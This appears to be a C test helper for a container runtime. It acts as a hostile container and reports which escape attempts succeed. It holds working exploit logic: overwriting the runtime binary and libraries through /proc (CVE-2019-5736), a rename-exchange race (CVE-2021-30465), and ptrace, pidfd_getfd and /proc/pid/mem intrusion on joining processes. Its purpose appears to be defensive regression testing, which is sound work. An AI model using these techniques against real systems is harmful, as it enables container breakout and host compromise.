// What a hostile container runs: each mode tries one thing, and says on standard output what it got.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 1
#endif
#define MARK "#!/overwritten by a container\n"

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void say(const char *what, const char *detail) {
    printf("%s %s\n", what, detail);
    fflush(stdout);
}

static void comm_of(int pid, char *comm, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    comm[0] = 0;
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, comm, size - 1);
    comm[n > 0 ? n : 0] = 0;
    comm[strcspn(comm, "\n")] = 0;
    close(fd);
}

// Our own descriptors.
static int list_fds(const char *pid, const char *word) {
    char path[300], target[4096];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *d = opendir(path);
    if (!d) {
        say("refused fd", strerror(errno));
        return 1;
    }
    int own = dirfd(d);
    for (struct dirent *e; (e = readdir(d));) {
        if (e->d_name[0] == '.' || (!strcmp(pid, "self") && atoi(e->d_name) == own))
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n < 0)
            continue;
        target[n] = 0;
        printf("%s %s -> %s\n", word, e->d_name, target);
    }
    fflush(stdout);
    closedir(d);
    return 0;
}

// What the other would lend to whoever traces it: capabilities, a filter less, namespaces and a root that are not ours.
static void measure(int pid) {
    static const char *const fields[] = {"CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "Seccomp:"};
    static const char *const spaces[] = {"cgroup", "ipc", "mnt", "net", "pid", "user", "uts", "time"};
    char path[64], line[256], own[64], theirs[64];
    struct stat a, b;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f))
        for (size_t i = 0; i < sizeof fields / sizeof *fields; i++)
            if (!strncmp(line, fields[i], strlen(fields[i])))
                printf("status %s", line);
    if (f)
        fclose(f);
    for (size_t i = 0; i < sizeof spaces / sizeof *spaces; i++) {
        snprintf(path, sizeof path, "/proc/self/ns/%s", spaces[i]);
        ssize_t n = readlink(path, own, sizeof own - 1);
        snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, spaces[i]);
        if (n > 0 && readlink(path, theirs, sizeof theirs - 1) == n && strncmp(own, theirs, n))
            say("took namespace", spaces[i]);
    }
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    if (!stat("/", &a) && !stat(path, &b) && (a.st_dev != b.st_dev || a.st_ino != b.st_ino))
        say("took foreign root", "");
    fflush(stdout);
}

// All that one may try with a process that is about to become the container's.
static void intrude(int pid) {
    char path[64], text[4096], number[16];
    snprintf(number, sizeof number, "%d", pid);
    list_fds(number, "took fd");
    measure(pid);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, text, sizeof text - 1);
    if (n >= 0) {
        text[n] = 0;
        say("took exe", text);
    } else
        say("refused exe", strerror(errno));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR);
    say(fd >= 0 ? "took mem" : "refused mem", fd >= 0 ? "" : strerror(errno));
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    fd = open(path, O_RDONLY);
    n = fd >= 0 ? read(fd, text, 16) : -1;
    say(n > 0 ? "took environ" : "refused environ", n > 0 ? "" : strerror(errno));
    snprintf(path, sizeof path, "/proc/%d/root/proc", pid);
    fd = open(path, O_PATH);
    say(fd >= 0 ? "took root" : "refused root", fd >= 0 ? "" : strerror(errno));
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    fd = -1;
    for (int i = 0; i < 16 && fd < 0; i++)
        fd = syscall(438 /* pidfd_getfd */, pidfd, i, 0);
    say(fd >= 0 ? "took getfd" : "refused getfd", fd >= 0 ? "" : strerror(errno));
    long traced = ptrace(PTRACE_SEIZE, pid, 0, 0);
    say(traced == 0 ? "took ptrace" : "refused ptrace", traced == 0 ? "" : strerror(errno));
    if (traced == 0)
        exit(0); // which lets it go on
}

// Wait for processes of the runtime's in our pid namespace.
static int watch(double seconds) {
    say("watching", "");
    double end = now() + seconds;
    char seen[65536] = {0}, comm[64];
    while (now() < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen || seen[pid] > 40)
                continue;
            comm_of(pid, comm, sizeof comm);
            if (strncmp(comm, "wherry-runc:in", 14)) // it has not begun, or is what it is to be already
                continue;
            if (seen[pid]++ % 20)
                continue;
            say("met", comm);
            intrude(pid);
        }
        if (d)
            closedir(d);
        if (!access("/stop", F_OK))
            break;
        usleep(2000);
    }
    say("watched", "");
    return 0;
}

static int write_by(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, MARK, strlen(MARK));
    int error = errno;
    close(fd);
    errno = error;
    return n > 0 ? 0 : -1;
}

// CVE-2019-5736: a descriptor of the runtime's own program, written to by its name in /proc.
static int overwrite(const char *path, double seconds) {
    double end = now() + seconds;
    struct {
        unsigned long set, clear, propagation, userns;
    } attributes = {0, MOUNT_ATTR_RDONLY, 0, 0};
    const char *reason = "";
    int fd = open(path, O_PATH), error = 0;
    while (now() < end) {
        if (write_by(path) == 0) {
            say("overwritten", path);
            return 0;
        }
        error = errno;
        reason = strerror(error);
        // A mount that is nowhere belongs to whoever has a descriptor of it and CAP_SYS_ADMIN somewhere.
        if (error == EROFS && syscall(442 /* mount_setattr */, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0)
            say("made writable", path);
        if (error == EROFS)
            mount("", path, "", MS_BIND | MS_REMOUNT, "");
        if (error == EROFS) {
            int tree = syscall(428 /* open_tree */, fd, "", AT_EMPTY_PATH | 1);
            if (tree >= 0)
                say("cloned", path);
        }
        if (error != ETXTBSY && error != EROFS)
            break;
        usleep(10000);
    }
    say("not overwritten:", reason);
    return 1;
}

// The same, with the program of a process that was exec'ed into this container.
static int overwrite_watch(double seconds) {
    say("watching", "");
    double end = now() + seconds;
    char path[64], target[4096], own[32];
    snprintf(own, sizeof own, "%d", getpid());
    while (now() < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            if (atoi(e->d_name) <= 1)
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", atoi(e->d_name));
            ssize_t n = readlink(path, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            if (n <= 0 || !strncmp(target, "/attacker", 9) || !strncmp(target, "/bin/", 5))
                continue;
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            say("opened", target);
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            return overwrite(path, 1);
        }
        if (d)
            closedir(d);
    }
    say("not overwritten:", "none was seen");
    return 1;
}

// A library of the runtime's, written to by the mappings of a process that is exec'ed into this container.
static int overwrite_library(const char *name, double seconds) {
    say("watching", "");
    double end = now() + seconds;
    char path[600], target[4096], comm[64];
    const char *reason = "nothing was met";
    while (now() < end && access("/stop", F_OK)) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            comm_of(atoi(e->d_name), comm, sizeof comm);
            if (atoi(e->d_name) <= 1 || strncmp(comm, "wherry-runc:in", 14))
                continue;
            snprintf(path, sizeof path, "/proc/%s/map_files", e->d_name);
            DIR *maps = opendir(path);
            if (!maps)
                reason = strerror(errno);
            errno = 0;
            for (struct dirent *m; maps && (m = readdir(maps)); errno = 0) {
                snprintf(path, sizeof path, "/proc/%s/map_files/%s", e->d_name, m->d_name);
                ssize_t n = readlink(path, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                if (n <= 0 || !strstr(target, name))
                    continue;
                int fd = open(path, O_WRONLY | O_APPEND);
                if (fd >= 0 && write(fd, MARK, strlen(MARK)) > 0) {
                    say("overwritten", target);
                    return 0;
                }
                reason = strerror(errno);
            }
            if (errno)
                reason = strerror(errno);
            if (maps)
                closedir(maps);
        }
        if (d)
            closedir(d);
        usleep(2000);
    }
    say("not overwritten:", reason);
    return 1;
}

// Exchange two names for ever, a directory and a link (CVE-2021-30465).
static int exchange(const char *one, const char *other, double seconds) {
    double end = now() + seconds;
    while (now() < end)
        for (int i = 0; i < 100; i++)
            syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
    return 0;
}

static int read_file(const char *path) {
    char text[256];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    text[n > 0 ? n : 0] = 0;
    say(n >= 0 ? "read" : "refused", n >= 0 ? text : strerror(errno));
    return n < 0;
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "";
    double seconds = argc > 2 ? atof(argv[argc - 1]) : 0;
    if (!strcmp(mode, "fds"))
        return list_fds(argc > 2 ? argv[2] : "self", "fd");
    if (!strcmp(mode, "intrude")) {
        intrude(atoi(argv[2]));
        return 0;
    }
    if (!strcmp(mode, "watch"))
        return watch(seconds);
    if (!strcmp(mode, "overwrite"))
        return overwrite(argv[2], seconds);
    if (!strcmp(mode, "overwrite-watch"))
        return overwrite_watch(seconds);
    if (!strcmp(mode, "overwrite-library"))
        return overwrite_library(argv[2], seconds);
    if (!strcmp(mode, "exchange"))
        return exchange(argv[2], argv[3], seconds);
    if (!strcmp(mode, "read"))
        return read_file(argv[2]);
    if (!strcmp(mode, "ids")) {
        gid_t groups[64];
        int n = getgroups(64, groups);
        printf("ids %u:%u", getuid(), getgid());
        for (int i = 0; i < n; i++)
            printf(" %u", groups[i]);
        printf("\n");
        return 0;
    }
    if (!strcmp(mode, "sleep")) {
        say("sleeping", "");
        usleep(seconds * 1e6);
        return 0;
    }
    return 2;
}
